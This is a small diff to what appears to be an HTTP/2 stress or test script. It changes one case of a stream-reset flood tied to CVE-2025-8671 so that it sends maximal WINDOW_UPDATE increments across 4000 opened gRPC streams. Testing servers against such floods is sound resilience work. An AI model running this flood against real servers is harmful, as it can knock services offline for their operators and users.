@@ -744,7 +744,7 @@ flood(
 )
 flood(
     "streams that the server must reset (CVE-2025-8671)",
-    lambda n: request(1 + 2 * n, flags=OPEN, fields=GRPC) + frame(WINDOW_UPDATE, 0, 1 + 2 * n, struct.pack(">I", 0)),
+    lambda n: request(1 + 2 * n, flags=OPEN, fields=GRPC) + frame(WINDOW_UPDATE, 0, 1 + 2 * n, struct.pack(">I", 0x7FFFFFFF)),
     count=4000,
     batch=40,
     paced=True,
